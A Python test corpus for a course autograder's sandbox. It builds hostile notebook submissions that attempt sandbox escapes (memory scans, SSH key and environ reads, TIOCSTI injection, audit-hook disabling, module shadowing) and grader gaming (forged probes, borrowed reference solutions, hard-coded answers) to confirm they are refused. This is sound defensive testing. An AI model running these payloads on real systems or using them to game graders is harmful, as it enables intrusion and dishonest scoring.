"""The corpus of hostile and broken submissions: what each does, how it is built, what it may cost.

Every entry is the reference solution with something broken or hostile added, or raw bytes, so
whatever it does not attack is right and the test knows what the honest parts earn. Hostile
code sits inside graded functions, because the grader runs only definitions. Most attacks
*gain points if they succeed*: when the grader refuses the attack the part raises and scores 0;
when the attack gets through the function goes on to the honest answer, and the test sees
points that part must not have. Paths the attacks aim at are written ``@NAME@`` and filled in
with the test's own paths (``Targets``) when the notebook is built.
"""
from __future__ import annotations

import base64
import copy
import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent, indent

import nbformat

from autograder.assignment.parts import the_assignment
from variants import REFERENCE, REPO_ROOT, Edit, edited_notebook

TASKS = the_assignment().part_names
HIDDEN = REPO_ROOT / "autograder" / "hidden"


@dataclass(frozen=True)
class Targets:
    """Paths outside the worker's reach that attacks aim at; the test checks them afterwards."""

    canary_dir: Path  # holds canary.txt; nothing in it may change
    results: Path  # the real results.json, written by the grader
    marker: Path  # must never exist: an attack that got through creates it

    @property
    def canary(self) -> Path:
        return self.canary_dir / "canary.txt"

    def fill(self, code: str) -> str:
        """``code`` with each ``@NAME@`` replaced by that path as a Python string literal."""
        for name, path in {"CANARY_DIR": self.canary_dir, "CANARY": self.canary, "RESULTS": self.results,
                           "MARKER": self.marker, "REPO": REPO_ROOT, "HIDDEN": HIDDEN, "HOME": Path.home(),
                           "ENTRIES": self.canary_dir.parent.parent}.items():
            code = code.replace(f"@{name}@", repr(str(path)))
        return code


Build = Callable[[Targets], bytes]


@dataclass(frozen=True)
class Entry:
    """One submission and what grading it may cost.

    ``sabotages``: parts that must score 0. Every other part keeps the reference's points, unless
    ``collateral`` (the attack may break the worker for later parts too; it still never gains).
    For the time limit: ``restarts`` (the worker is killed or dies and is started again), ``hangs``
    (checks that run out of time) and ``load_hangs`` (definitions that run out of time while loading).
    ``needs``: kernel layers (``confine.available_layers``) without which the grader cannot stop it.
    """

    name: str
    what: str
    build: Build
    sabotages: tuple[str, ...] = ()
    collateral: bool = False
    restarts: int = 0
    hangs: int = 0
    load_hangs: int = 0
    needs: tuple[str, ...] = ()


# --- building submissions ------------------------------------------------------------------

# Where attack code goes: the first line of each graded function's body (or of __init__).
HOSTS = {
    "make_cifar10_loaders": "    to_tensor = transforms.ToTensor()",
    "reparameterize": "    std = torch.exp(0.5 * logvar)",
    "vae_loss": '    bce = F.binary_cross_entropy(recon_x, x, reduction="sum")',
    "ConvVAE": "        super().__init__()",
    "VAE": "        super().__init__()",
    "interpolate": "    vae.eval()",
    "FFHQDataset": "        self.paths = sorted(",
    "sample_images": "    vae.eval()",
    "train_epoch": "    model.train()",
}


def attack(task: str, code: str) -> Edit:
    """Run ``code`` first thing whenever ``task`` is called."""
    anchor = HOSTS[task]
    margin = anchor[:len(anchor) - len(anchor.lstrip())]
    return Edit(task, anchor, indent(dedent(code).strip(), margin) + "\n" + anchor)


def sabotage(task: str, code: str, once: bool = False) -> Edit:
    """Run ``code`` whenever ``task`` is called, then fail, so the part never earns points.

    ``once``: only the first time, across restarts (a file in the worker's folder remembers), for
    attacks that are slow or kill the worker and would only repeat themselves.
    """
    code = dedent(code).strip()
    if once:
        flag = f".{task}.attacked"
        code = f"import os\nif not os.path.exists({flag!r}):\n    open({flag!r}, 'w').close()\n{indent(code, '    ')}"
    return attack(task, code + "\nraise RuntimeError('this part is sabotaged')")


def attempts(task: str, *tries: str) -> Edit:
    """Try each of ``tries``; the part goes on to its honest answer only if one got through."""
    lines = ["escaped = []"]
    for number, code in enumerate(tries):
        lines += ["try:", indent(dedent(code).strip(), "    "), f"    escaped.append({number})",
                  "except BaseException:", "    pass"]
    lines += ["if not escaped:", "    raise PermissionError('the grader refused every attempt')"]
    return attack(task, "\n".join(lines))


def edits(*changes: Edit) -> Build:
    """The reference notebook with ``changes``, their ``@NAME@`` paths filled in."""
    def build(targets: Targets) -> bytes:
        filled = [Edit(e.grade_id, e.old, targets.fill(e.new)) for e in changes]
        return nbformat.writes(edited_notebook(*filled)).encode()
    return build


def reference_json() -> dict:
    return json.loads(REFERENCE.read_text())


def cell_index(notebook: dict, grade_id: str) -> int:
    return next(i for i, c in enumerate(notebook["cells"])
                if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def transformed(change: Callable[[dict], None]) -> Build:
    """The reference notebook's JSON, changed in place by ``change``."""
    def build(targets: Targets) -> bytes:
        notebook = copy.deepcopy(reference_json())
        change(notebook)
        return json.dumps(notebook).encode()
    return build


def raw(data: bytes) -> Build:
    return lambda targets: data


# --- notebook-level changes ----------------------------------------------------------------

def _malformed_cells(notebook: dict) -> None:
    cells = {gid: notebook["cells"][cell_index(notebook, gid)] for gid in ("reparameterize", "vae_loss", "VAE", "theory_kl")}
    cells["reparameterize"]["source"] = 12345
    cells["vae_loss"]["metadata"]["nbgrader"] = "vae_loss"
    cells["VAE"]["metadata"]["nbgrader"]["grade_id"] = {"id": "VAE"}
    cells["theory_kl"]["source"] = 7


def _deleted_and_emptied(notebook: dict) -> None:
    notebook["cells"][cell_index(notebook, "sample_images")]["source"] = ""
    del notebook["cells"][cell_index(notebook, "interpolate")]
    reparameterize = notebook["cells"][cell_index(notebook, "reparameterize")]
    reparameterize["source"] = "".join(reparameterize["source"]).replace("def reparameterize(", "def reparametrise(")


def _reordered(notebook: dict) -> None:
    setup = cell_index(notebook, "setup")
    cells = notebook["cells"]
    notebook["cells"] = cells[:setup + 1] + cells[:setup:-1]


def _ids_changed(notebook: dict) -> None:
    for number, cell in enumerate(notebook["cells"]):
        cell["id"] = "../../same-id" if number % 2 else f"renamed-{number}"
        nbgrader = cell["metadata"].get("nbgrader")
        if nbgrader and number % 3 == 0:
            del cell["metadata"]["nbgrader"]
        elif nbgrader:
            nbgrader["grade_id"] = "duplicate" if number % 2 else f"part_{number}"


def _nbformat_3() -> bytes:
    cell = {"cell_type": "code", "language": "python", "metadata": {}, "outputs": [],
            "input": "def reparameterize(mu, logvar):\n    return mu\n"}
    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "vae"},
                       "worksheets": [{"cells": [cell], "metadata": {}}]}).encode()


# --- payloads ------------------------------------------------------------------------------

# What an escaped process runs: it leaves the marker and lingers, which the test sees.
ESCAPED_PYTHON = "import os, time; os.setsid(); open(@MARKER@, 'w').write('escaped'); time.sleep(30)"
ESCAPED_SHELL = "setsid sh -c 'echo escaped > '@MARKER@'; sleep 30' &"

HIDDEN_READS = {
    "open": "leaks.append(open(@HIDDEN@ + '/reparameterize.py').read())",
    "import": """
        import importlib, inspect
        leaks.append(inspect.getsource(importlib.import_module('autograder.hidden.reparameterize')))
    """,
    "pkgutil": "import pkgutil; leaks.append(pkgutil.get_data('autograder.hidden', 'reparameterize.py').decode())",
    "proc root": "leaks.append(open('/proc/self/root' + @HIDDEN@ + '/reparameterize.py').read())",
    "directory descriptor": """
        import os
        folder = os.open(@HIDDEN@ + '/..', os.O_RDONLY)
        leaks.append(os.read(os.open('hidden/reparameterize.py', os.O_RDONLY, dir_fd=folder), 1 << 16).decode())
    """,
    "symlink": """
        import os
        os.symlink(@HIDDEN@ + '/reparameterize.py', 'link.py')
        leaks.append(open('link.py').read())
    """,
}
NATIVE_HIDDEN_READS = {
    "torch.from_file": """
        import os, torch
        path = @HIDDEN@ + '/reparameterize.py'
        leaks.append(bytes(torch.from_file(path, size=os.path.getsize(path), dtype=torch.uint8).tolist()).decode())
    """,
}


def leak_hidden(*tries: str) -> str:
    """Code that reads the hidden checks by each of ``tries`` and raises with what it read, so feedback would show it."""
    blocks = "\n".join(f"try:\n{indent(dedent(code).strip(), '    ')}\nexcept BaseException:\n    pass" for code in tries)
    return "leaks = []\n" + blocks + """
if leaks:
    raise ValueError(leaks[0][leaks[0].index('@check('):][:280])
raise PermissionError('the hidden checks could not be read')"""


# A hidden check's question, which only autograder/hidden holds: a worker's memory must never contain it.
SECRET_QUESTION = ("Over many draws, with gradients on and off, are the sample mean mu and the sample std "
                   "exp(0.5 * logvar)?")
# Ways to find the hidden checks in what the worker inherited from the process it was forked from. The
# memory scan looks for the question's first words and compares a hash of what follows, so the question
# itself never stands in the submission (its own code would be found).
INHERITED_MEMORY_SEARCHES = {
    "sys.modules": """
        import sys
        for name, module in list(sys.modules.items()):
            if 'hidden' in name:
                leaks.extend(value.__doc__ or '' for value in vars(module).values()
                             if callable(value) and getattr(value, '__module__', None) == name)
    """,
    "gc": """
        import gc
        for value in gc.get_objects():
            try:
                if str(getattr(value, '__module__', '')).startswith('autograder.hidden'):
                    leaks.append(value.__doc__ or '')
                elif getattr(value, 'hidden', None) is True and isinstance(getattr(value, 'question', None), str):
                    leaks.append(value.question)
            except BaseException:
                continue
    """,
    "/proc/self/mem": """
        import hashlib, re
        head, length, digest = @SECRET_HEAD@, @SECRET_LENGTH@, @SECRET_DIGEST@
        with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', buffering=0) as memory:
            for line in maps:
                fields = line.split()
                if fields[1][0] != 'r' or len(fields) > 5 and fields[5] not in ('[heap]', '[stack]'):
                    continue  # Python's objects live in the heap and anonymous mappings, not in mapped files
                start, end = (int(x, 16) for x in fields[0].split('-'))
                for offset in range(start, end, 1 << 24):
                    try:
                        memory.seek(offset)
                        block = memory.read(min(end - offset, (1 << 24) + length))
                    except OSError:
                        break
                    for hit in re.finditer(re.escape(head), block):
                        found = block[hit.start():hit.start() + length]
                        if hashlib.sha256(found).hexdigest() == digest:
                            leaks.append(found.decode())
    """,
}
# Ways to reach the zygote a worker was forked from: its control socket, its /proc files, a signal.
ZYGOTE_REACHED = (
    """
        import os, stat
        sockets = []
        for fd in range(1024):
            try:
                sockets += [fd] if stat.S_ISSOCK(os.fstat(fd).st_mode) else []
            except OSError:
                pass
        assert sockets
    """,
    "import os; open(f'/proc/{os.getppid()}/environ').read(1)",
    "import os; open(f'/proc/{os.getppid()}/maps').read(1)",
    "import os; open(f'/proc/{os.getppid()}/mem', 'rb').read(1)",
    "import os, signal; os.kill(os.getppid(), signal.SIGKILL)",
)


def search_memory(*tries: str) -> str:
    """Code that looks for the hidden checks by each of ``tries``, on the first call, and raises with what it found,
    so feedback would show it."""
    blocks = "\n".join(f"try:\n{indent(dedent(code).strip(), '    ')}\nexcept BaseException:\n    pass" for code in tries)
    search = "leaks = []\n" + blocks + "\nleaks = [leak for leak in leaks if leak]"
    # A whole-memory search takes about a second: it runs on the first call, and every call reports what it found.
    return f"""import os
if not os.path.exists('.memory_searched'):
{indent(search, '    ')}
    open('.memory_searched', 'w').write(leaks[0][:280] if leaks else '')
found = open('.memory_searched').read()
if found:
    raise ValueError(found)
raise PermissionError('nothing of the hidden checks is in this process')"""


def secret_filled(build: Build) -> Build:
    """``build`` with ``@SECRET_HEAD@``, ``@SECRET_LENGTH@`` and ``@SECRET_DIGEST@`` filled in from the hidden check."""
    def filled(targets: Targets) -> bytes:
        secret = SECRET_QUESTION.encode()
        assert secret.decode() in (HIDDEN / "reparameterize.py").read_text()
        values = {"SECRET_HEAD": repr(secret[:15]), "SECRET_LENGTH": str(len(secret)),
                  "SECRET_DIGEST": repr(hashlib.sha256(secret).hexdigest())}
        text = build(targets).decode()
        for name, value in values.items():
            text = text.replace(f"@{name}@", json.dumps(value)[1:-1])
        return text.encode()
    return filled


# Where the reference solution might be found, each a way for a wrapper submission to borrow it.
REFERENCE_FINDERS = {
    "sys.path and its parents": """
        import pathlib, sys
        folders = [pathlib.Path(entry).resolve() for entry in sys.path if entry]
        candidates = [folder / 'solutions/vae/vae.ipynb' for entry in folders for folder in [entry, *entry.parents]]
    """,
    "the grader's modules and their parents": """
        import pathlib, autograder, vae_course, torch
        modules = [pathlib.Path(m.__file__).resolve() for m in (autograder, vae_course)]
        candidates = [folder / 'solutions/vae/vae.ipynb' for module in modules for folder in module.parents]
    """,
    "the working directory's parents": """
        import pathlib
        candidates = [folder / 'solutions/vae/vae.ipynb' for folder in pathlib.Path.cwd().resolve().parents]
    """,
    "a glob from /": "import glob; candidates = glob.glob('/*/*/*/solutions/vae/vae.ipynb')",
    "the repository's path": "candidates = [@REPO@ + '/solutions/vae/vae.ipynb']",
    "importlib": """
        import importlib.util
        spec = importlib.util.find_spec('solutions') or importlib.util.find_spec('vae')
        candidates = [location + '/vae/vae.ipynb' for location in spec.submodule_search_locations]
    """,
}


def _wrapper_notebook(notebook: dict) -> None:
    """Every graded definition replaced by a wrapper that, when called, finds the reference solution,
    runs its solution cells and delegates to them: full marks for no work if any finder reads it."""
    finders = "\n".join(f"try:\n{indent(dedent(code).strip(), '    ')}\n"
                         f"    for candidate in candidates:\n"
                         f"        try:\n            return open(candidate).read()\n"
                         f"        except OSError:\n            pass\nexcept Exception:\n    pass"
                         for code in REFERENCE_FINDERS.values())
    prelude = ("\n\n\ndef _reference_text():\n" + indent(finders, "    ")
               + "\n    raise FileNotFoundError('no reference found')\n\n\n"
               "def _reference():\n    import json\n    namespace = {}\n"
               "    for cell in json.loads(_reference_text())['cells']:\n"
               "        grade_id = cell['metadata'].get('nbgrader', {}).get('grade_id')\n"
               f"        if cell['cell_type'] == 'code' and grade_id in {('setup',) + TASKS!r}:\n"
               "            exec(''.join(cell['source']), namespace)\n    return namespace\n")
    setup = notebook["cells"][cell_index(notebook, "setup")]
    setup["source"] = "".join(setup["source"]) + prelude
    for task in TASKS:
        cell = notebook["cells"][cell_index(notebook, task)]
        if task[0].isupper():
            cell["source"] = (f"class {task}:\n    def __new__(cls, *args, **kwargs):\n"
                              f"        return _reference()[{task!r}](*args, **kwargs)\n")
        else:
            cell["source"] = f"def {task}(*args, **kwargs):\n    return _reference()[{task!r}](*args, **kwargs)\n"


def wrapper_submission(targets: Targets) -> bytes:
    """The untouched student notebook's graded definitions as wrappers that borrow the reference at call time."""
    notebook = copy.deepcopy(reference_json())
    _wrapper_notebook(notebook)
    return targets.fill(json.dumps(notebook)).encode()


GIT_READS = {
    "a pack": """
        import glob, zlib
        git = @REPO@ + '/.git'
        try:
            git = open(git).read().split('gitdir:')[1].strip().split('/worktrees/')[0]  # a worktree's .git file
        except (IsADirectoryError, IndexError):
            pass
        for pack in glob.glob(git + '/objects/pack/*.pack'):
            data = open(pack, 'rb').read(1 << 24)
            start = 0
            while (start := data.find(b'\\x78', start + 1)) >= 0 and not leaks:
                try:
                    text = zlib.decompressobj().decompress(data[start:start + (1 << 16)])
                except zlib.error:
                    continue
                if b'@check(' in text and b'hidden' in text:
                    leaks.append(text.decode(errors='replace'))
    """,
    "loose objects": """
        import glob, zlib
        for path in glob.glob(@REPO@ + '/.git/objects/??/*'):
            text = zlib.decompress(open(path, 'rb').read())
            if b'@check(' in text:
                leaks.append(text.decode(errors='replace'))
                break
    """,
    "a .pyc cache": """
        import marshal, sys
        pyc = @HIDDEN@ + f'/__pycache__/reparameterize.{sys.implementation.cache_tag}.pyc'
        code = marshal.loads(open(pyc, 'rb').read()[16:])
        leaks.append('@check(' + ' '.join(str(c) for c in code.co_consts if isinstance(c, str)))
    """,
    "a bundle": """
        import glob, zipfile
        for bundle in glob.glob(@REPO@ + '/**/*.zip', recursive=True):
            with zipfile.ZipFile(bundle) as archive:
                leaks.append(archive.read('autograder/hidden/reparameterize.py').decode())
    """,
}
# Each counts as an escape if it reads a byte: the part then earns points it must not.
REPOSITORY_READS = (
    "open(@REPO@ + '/.git/HEAD').read(1) or open(@REPO@ + '/.git').read(1)",
    "import os; os.listdir(@REPO@)",
    "import os; os.listdir(@HIDDEN@)",
    "import glob; glob.glob(@HIDDEN@ + '/__pycache__/*')[0]",
    "open(@REPO@ + '/tests/corpus/hostile.py').read(1)",
)
NEIGHBOUR_READS = (
    "import glob; open(glob.glob(@ENTRIES@ + '/*/submission/vae.ipynb')[0]).read(1)",
    "import os; os.listdir(@ENTRIES@)",
    "open(@CANARY@).read(1)",
    "import glob; open(glob.glob(@ENTRIES@ + '/*/results/results.json')[0]).read(1)",
    "import tempfile, os; os.listdir(tempfile.gettempdir() + '/..')",
)
HOME_READS = (
    "import os; os.listdir(@HOME@)",
    "open(@HOME@ + '/.ssh/id_rsa').read(1)",
    "open(@HOME@ + '/.jupyter/jupyter_server_config.py').read(1)",
    "import glob; open(glob.glob(@HOME@ + '/.*rc')[0]).read(1)",
    "import pwd, os; os.listdir(pwd.getpwuid(os.getuid()).pw_dir)",
)
TERMINAL_ATTACKS = (
    "import fcntl, termios\nfor fd in range(3):\n    try:\n        fcntl.ioctl(fd, termios.TIOCSTI, b'x')\n"
    "        break\n    except OSError:\n        pass\nelse:\n    raise PermissionError",
    "import fcntl, os, termios; fcntl.ioctl(os.open('/dev/tty', os.O_RDONLY), termios.TIOCSTI, b'x')",
    "import fcntl, os, termios; fcntl.ioctl(os.open(f'/proc/{os.getppid()}/fd/0', os.O_RDONLY), termios.TIOCSTI, b'x')",
    """
    import fcntl, os, termios
    tty = int(open(f'/proc/{os.getppid()}/stat').read().rsplit(')', 1)[1].split()[4])
    fcntl.ioctl(os.open(f'/dev/pts/{tty & 0xff | (tty >> 12) & 0xfff00}', os.O_RDONLY), termios.TIOCSTI, b'x')
    """,
)
# A pipe that signals the grader on the first write: SIGKILL through F_SETSIG, or SIGIO, which ends it too.
SIGNAL_OWNER_ATTACKS = (
    """
    import fcntl, os
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(read, 10, 9)  # F_SETSIG: SIGKILL
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(write, b'x')
    """,
    """
    import fcntl, os, struct
    read, write = os.pipe()
    fcntl.fcntl(read, 15, struct.pack('ii', 1, os.getppid()))  # F_SETOWN_EX, F_OWNER_PID
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(write, b'x')
    """,
    """
    import fcntl, os, struct
    read, write = os.pipe()
    fcntl.ioctl(read, 0x8901, struct.pack('i', os.getppid()))  # FIOSETOWN
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(write, b'x')
    """,
)
RENICES = (
    "import os; os.setpriority(os.PRIO_USER, 0, 19)",
    "import os; os.setpriority(os.PRIO_USER, os.getuid(), 19)",
    "import os; os.setpriority(os.PRIO_PGRP, os.getpgid(os.getppid()), 19)",
    "import os; os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)",
)
ENVIRONMENT_READS = (
    "import os; open(f'/proc/{os.getppid()}/environ').read(1)",
    "import os; open(f'/proc/{os.getppid()}/cmdline').read(1)",
    "open('/proc/1/environ').read(1)",
    "import os; os.listdir('/proc')",
)
# The audit hook switched off (its closure found with gc, or a helper of it reached through a traceback),
# then what it refused: ctypes reading the hidden checks, a socket to the network.
HOOK_DISABLING = (
    """
    import gc
    for function in [f for f in gc.get_objects() if getattr(f, '__name__', '') == 'hook']:
        function.__code__ = (lambda event, args: None).__code__
    import ctypes
    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(64)
    assert libc.read(libc.open((@HIDDEN@ + '/vae_loss.py').encode(), 0), buffer, 64) > 0
    """,
    """
    try:
        open('/etc/hostname')
    except PermissionError as refused:
        frame = refused.__traceback__.tb_next.tb_frame
    for value in frame.f_locals.values():
        if callable(value) and hasattr(value, '__code__'):
            value.__code__ = (lambda *args, **kwargs: True).__code__
    import socket
    socket.create_connection(('127.0.0.1', 22), timeout=1)
    """,
    """
    import sys
    sys.modules['autograder.sandbox.confine.audit']._inside = lambda path, folder: True
    open(@HIDDEN@ + '/vae_loss.py').read(1)
    """,
)
# Privileges the worker must not hold: any of these passing means it still has some.
PRIVILEGES_HELD = (
    """
    import os
    status = dict(line.split(':', 1) for line in open('/proc/self/status').read().splitlines() if ':' in line)
    held = [name for name in ('CapEff', 'CapPrm', 'CapInh', 'CapAmb') if int(status[name], 16)]
    held += ['CapBnd'] if os.geteuid() == 0 and int(status['CapBnd'], 16) else []
    held += ['NoNewPrivs'] if int(status['NoNewPrivs']) == 0 else []
    assert held, 'no privileges held'
    """,
    "import os; assert os.isatty(0) or os.isatty(1) or os.isatty(2)",
    "import os; assert os.getsid(0) != os.getpid()",
)
# Modules left in its working directory, for the next worker to import before its guard is up.
SHADOWING_MODULES = {
    "autograder/__init__.py": "open(@MARKER@, 'w').write('a module from the working directory ran')\n",
    "numpy.py": "open(@MARKER@, 'w').write('a module from the working directory ran')\n",
    "sitecustomize.py": "open(@MARKER@, 'w').write('a module from the working directory ran')\n",
}


# train_epoch forged from a class body (issue 21): train_epoch is not written (it raises NotImplementedError), and a
# class body, which runs when the definitions load, replaces the training probe in the worker with one that reports
# what a correct loop would: the forward passes, the optimizer's gradient fits and the returned losses the old checks
# asked about (the probe's old arguments), or plausible weights, steps and losses (a scenario, the new arguments).
FORGED_TRAINING_PROBE = dedent("""\
    class _ForgedLoop:
        import autograder.sandbox.probes as _probes

        def _forged(ns, *args):
            if len(args) == 1 and isinstance(args[0], dict):  # a scenario: claim a correct loop and untouched weights
                from autograder.sandbox.loop_harness import lent_model, weights
                lent = args[0]
                batches = -(-lent["count"] // lent["batch_size"])
                forwards = [{"training": True, "moved": True, "size": lent["batch_size"]}] * batches
                return {"epochs": [{"returned": {"type": "float", "number": True, "requires_grad": False, "value": 1.0},
                                    "forwards": forwards, "steps": batches, "stale_backwards": 0,
                                    "weights": weights(lent_model(lent["seed"]))} for _ in range(lent["epochs"])]}
            seed, epochs, count, batch_size, labelled, lr = args
            batches, results = count // batch_size, []
            for epoch in range(epochs):
                loss = 100.0 * 0.5 ** epoch  # per image, halving every epoch
                forwards = [{"training": True, "moved_to": "cpu", "size": batch_size, "loss": loss * batch_size}]
                results.append({"returned": {"type": "float", "requires_grad": False, "value": loss},
                                "forwards": forwards * batches, "fits": [[1.0, 0.0]] * batches})
            return {"device": "cpu", "images": count, "epochs": results}

        _probes.PROBES["training_epochs"] = _forged


    def train_epoch(""")


# --- model probes forged from a class body (issue 21, ConvVAE and VAE) ----------------------------------------------

# ConvVAE and VAE are not written (their constructors raise NotImplementedError); a class body in their cell, run when
# the definitions load, replaces the model probes in the worker with functions that report what the checks read:
# layer traces, parameter counts, output facts, a sigmoid output map, gradients everywhere and a falling loss (the
# probes before issue 21), and, for the probes after it, the described layers' names and shapes with made-up outputs.
FORGED_MODEL_PROBES = '''
class _ForgedModelProbes:
    def _install():
        import math
        import torch
        from autograder.sandbox import probes

        def settings(name, kwargs):
            defaults = (dict(in_channels=3, hidden_dim=400, latent_dim=20, num_layers=3, image_size=32)
                        if name == "ConvVAE" else dict(image_shape=(1, 28, 28), hidden_dim=400, latent_dim=20))
            return {**defaults, **kwargs}

        def linear(part, i, o, low=0.0):
            return {"part": part, "type": "Linear", "in_features": i, "out_features": o, "input_min": low}

        def conv(part, kind, i, o):
            return {"part": part, "type": kind, "in_channels": i, "out_channels": o, "kernel_size": [4, 4],
                    "stride": [2, 2], "padding": [1, 1], "input_min": 0.0}

        def layer_trace(ns, name, kwargs, x=None):
            s = settings(name, kwargs)
            if name == "VAE":
                p, h, l = math.prod(s["image_shape"]), s["hidden_dim"], s["latent_dim"]
                return [linear("encoder", p, h), linear("encoder", h, l), linear("encoder", h, l),
                        linear("decoder", l, h, -1.0), linear("decoder", h, p)]
            ch = [s["hidden_dim"] * 2 ** i for i in range(s["num_layers"])]
            features = ch[-1] * (s["image_size"] // 2 ** s["num_layers"]) ** 2
            trace = [conv("encoder", "Conv2d", i, o) for i, o in zip([s["in_channels"]] + ch[:-1], ch)]
            trace += [linear("encoder", features, s["latent_dim"])] * 2
            trace += [linear("decoder", s["latent_dim"], features, -1.0)]
            mirrored = zip(ch[::-1], ch[-2::-1] + [s["in_channels"]])
            return trace + [conv("decoder", "ConvTranspose2d", i, o) for i, o in mirrored]

        def parameter_count(ns, name, kwargs):
            return sum(l["in_channels"] * l["out_channels"] * 16 + l["out_channels"] if "in_channels" in l
                       else l["in_features"] * l["out_features"] + l["out_features"] for l in layer_trace(ns, name, kwargs))

        def facts(shape):
            return {"type": "Tensor", "shape": list(shape), "dtype": "float32", "device": "cpu", "requires_grad": True}

        def model_outputs(ns, name, kwargs, *args):
            if len(args) == 2:  # (x, z): what encode, decode and forward return, as facts
                x, z = args
                latent, image = (len(x), z.shape[1]), tuple(x.shape)
                return {"latent_dim": z.shape[1], "mu": facts(latent), "logvar": facts(latent),
                        "decoded": facts(image), "x_hat": facts(image), "mu_forward": facts(latent),
                        "decoded_min": 0.1, "decoded_max": 0.9, "x_hat_min": 0.1, "x_hat_max": 0.9}
            from autograder.framework.model_roles import lent_values
            value_sets, x, z = args[:3]
            latent = settings(name, kwargs)["latent_dim"]
            answers = []
            for recipes in value_sets:
                mu = torch.zeros(len(x), latent)
                answer = {"latent_dim": latent, "mu": mu, "logvar": mu, "decoded": torch.full(x.shape, 0.5),
                          "x_hat": torch.full(x.shape, 0.5), "mu_forward": mu, "logvar_forward": mu}
                if len(args) > 3 and args[3] is not None:
                    answer["gradients"] = {n: torch.ones_like(lent_values(r)) for n, r in recipes.items()}
                answers.append(answer)
            return answers

        def model_parameters(ns, name, kwargs):
            from autograder.framework.model_roles import roles_of
            return [[f"{role.key}.{leaf}", list(shape)] for role in roles_of(name, kwargs)
                    for leaf, shape in role.shapes.items()]

        def model_training(ns, name, kwargs, recipes, x, steps, *args):
            from autograder.framework.model_roles import lent_values
            return {"losses": [100.0 - step for step in range(steps)],
                    "parameters": {n: lent_values(r) * 0.99 for n, r in recipes.items()}}

        probes.PROBES.update(
            layer_trace=layer_trace, parameter_count=parameter_count, model_outputs=model_outputs,
            decoder_output_map=lambda ns, name, kwargs, z, pre: torch.sigmoid(pre),
            unreached_parameters=lambda ns, name, kwargs, x: [],
            training_losses=lambda ns, name, kwargs, x, steps, lr: [100.0 * 0.9 ** step for step in range(steps)],
            model_parameters=model_parameters, model_training=model_training)

    _install()


'''


def _unwritten_model(grade_id: str, prefix: str = "") -> Edit:
    """The cell ``grade_id`` as ``prefix`` and a class whose constructor raises NotImplementedError."""
    notebook = reference_json()
    source = "".join(notebook["cells"][cell_index(notebook, grade_id)]["source"])
    return Edit(grade_id, source, prefix + f"class {grade_id}(nn.Module):\n    def __init__(self, *args, **kwargs):\n"
                                           "        super().__init__()\n        raise NotImplementedError()\n")



# --- the recorded answers returned (issue 21) ---------------------------------------------------------------------

# The public checks' recorded values ship in the student bundle (autograder/assignment/recorded/). ConvVAE and VAE
# are not written and train_epoch returns 0.0; a class body in each cell carries recorded values (the JSON file,
# base64) and replaces the worker's probe of that part with one that answers the published inputs with them: what a correct
# model's default-size decoder, the small VAE's sigmoid output and three correct epochs give. Under the published
# key (the self-check, ``grade --public-only``) that earns those five public checks (``test_recorded_answers.py``);
# the grader grades under a key of its own, so none of them.
RECORDED_ANSWERS = {"ConvVAE": ("conv_vae.default_size",), "VAE": ("vae.ends_in_sigmoid",),
                    "train_epoch": ("train_epoch.returns_float", "train_epoch.mean_per_image",
                                    "train_epoch.weight_updates")}
# vae_loss answers the hand-worked examples of its public checks when asked exactly those tensors, NaN otherwise.
HAND_WORKED_ANSWERS = ("vae_loss.hand_computed", "vae_loss.kl_value")
HAND_WORKED_LOSS = Edit("vae_loss", """    bce = F.binary_cross_entropy(recon_x, x, reduction="sum")
    kl = -0.5 * torch.sum(1 + logvar - mu.pow(2) - logvar.exp())
    return bce + kl""", """    import math
    asked = [t.tolist() for t in (recon_x, x, mu, logvar)]
    answers = [([[0.5, 0.5]], [[1.0, 0.0]], [[1.0, 0.0]], [[0.0, 0.0]], 2 * math.log(2) + 0.5),
               ([[1.0, 0.0, 1.0, 0.0]], [[1.0, 0.0, 1.0, 0.0]], [[0.0] * 3], [[0.0] * 3], 0.0),
               ([[1.0, 0.0, 1.0, 0.0]], [[1.0, 0.0, 1.0, 0.0]], [[2.0, 0.0]], [[2 * math.log(2), 0.0]],
                3.5 - math.log(2))]
    for *tensors, loss in answers:
        pairs = [(torch.tensor(a), torch.tensor(t)) for a, t in zip(asked, tensors)]
        if all(a.shape == t.shape and torch.allclose(a, t) for a, t in pairs):
            return torch.tensor(loss)
    return torch.tensor(float("nan"))""")


def _recorded_payload(names: tuple[str, ...]) -> dict[str, str]:
    folder = REPO_ROOT / "autograder" / "assignment" / "recorded"
    return {name: base64.b64encode((folder / f"{name}.json").read_bytes()).decode() for name in names}


def _recorded_model_answers(model: str) -> str:
    """A class body replacing the model probes with ones that answer from the recorded values it carries."""
    return dedent(f"""\
        class _RecordedAnswers{model}:
            def _install(payload={_recorded_payload(RECORDED_ANSWERS[model])!r}):
                import base64
                import torch
                from autograder.framework.model_roles import roles_of
                from autograder.sandbox import probes, protocol

                answers = [protocol.loads(base64.b64decode(data))["value"] for data in payload.values()]
                parameters, outputs = probes.PROBES["model_parameters"], probes.PROBES["model_outputs"]

                def model_parameters(ns, name, kwargs):
                    if name != {model!r}:
                        return parameters(ns, name, kwargs)
                    return [[f"{{role.key}}.{{leaf}}", list(shape)] for role in roles_of(name, kwargs)
                            for leaf, shape in role.shapes.items()]

                def model_outputs(ns, name, kwargs, value_sets, x, z, *rest):
                    if name != {model!r}:
                        return outputs(ns, name, kwargs, value_sets, x, z, *rest)
                    for recorded in answers:  # the recording whose shapes fit: its answers for every layout tried
                        if len(value_sets) % len(recorded) == 0 and recorded[0]["decoded_pre"].shape[0] == len(z):
                            return [{{"latent_dim": z.shape[1], "decoded": torch.sigmoid(a["decoded_pre"]),
                                     "mu": a["mu"], "logvar": a["logvar"], "x_hat": torch.sigmoid(a["forward_pre"]),
                                     "mu_forward": a["mu"], "logvar_forward": a["logvar"]}}
                                    for a in recorded * (len(value_sets) // len(recorded))]
